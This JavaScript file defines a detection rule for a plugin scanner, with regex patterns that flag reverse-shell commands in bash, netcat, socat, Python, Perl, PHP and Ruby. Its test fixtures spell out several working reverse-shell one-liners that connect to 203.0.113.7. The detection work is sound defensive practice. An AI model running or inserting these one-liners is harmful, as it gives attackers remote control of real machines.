import { beginning, defineByteRule, ELF_MAGIC } from '../byteRule.js';

export const remoteShellCommand = defineByteRule({
  id: 'remote-shell-command',
  severity: 'high',
  ability: 'process',
  message: 'It holds a command that gives a shell to somebody elsewhere.',
  why: 'Such a line has no honest place in a plugin, in whatever file it waits for being run.',
  text: /sh -i|\/dev\/(?:tcp|udp)\/|-[a-z]{0,6}[ec]\s{1,4}["']?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh\b|mkfifo\s|socat\s|dup2\(|use Socket;|fsockopen\(|TCPSocket\./i,
  strings: String.raw`
    $redirected = /sh -i[^\n]{0,30}[<>]&?\s?\/dev\/(tcp|udp)\//
    $descriptor = /exec\s{1,4}[0-9]{1,3}<>\s?\/dev\/(tcp|udp)\//
    $netcat = /(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n|]{0,80}-[a-z]{0,6}[ec]\s{1,4}["']?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh\b/
    $pipe = /mkfifo\s[^\n]{1,100}sh -i[^\n]{0,60}\|\s?(nc|ncat|netcat|telnet|openssl)\s/
    $socat = /socat\s[^\n]{0,120}exec:["']?[^\n]{0,20}sh\b/ nocase
    $python = /socket\.socket\([^\n]{0,200}connect\(\([^\n]{0,200}dup2\([^\n]{0,300}sh\b/
    $perl = /use Socket;[^\n]{0,300}connect\([^\n]{0,300}exec[\s(]{0,4}\{?["'][^\n]{0,20}sh -i/
    $php = /fsockopen\([^\n]{0,120}(exec|shell_exec|system|passthru|popen|proc_open)\([^\n]{0,40}sh\b/
    $ruby = /TCPSocket\.(new|open)\([^\n]{0,200}(exec|popen)[^\n]{0,60}sh\b/`,
  condition: 'any of them',
  examples: {
    flags: [
      { path: 'notes.dat', content: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
      {
        path: 'plugin',
        content: beginning(ELF_MAGIC, 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9 >/tmp/f'),
      },
      { path: 'a.tpl', content: 'nc -e /bin/sh 203.0.113.7 4444' },
      { path: 'a.tpl', content: `php -r '$s=fsockopen("203.0.113.7",9);exec("/bin/sh -i <&3 >&3");'` },
    ],
    passes: [
      { path: 'README.md', content: 'Connect with nc 127.0.0.1 80, in bash -i if you like. See /dev/tcp.' },
      { path: 'a.sh', content: 'func -e refresh\nexec 3<>/dev/null' },
    ],
  },
});
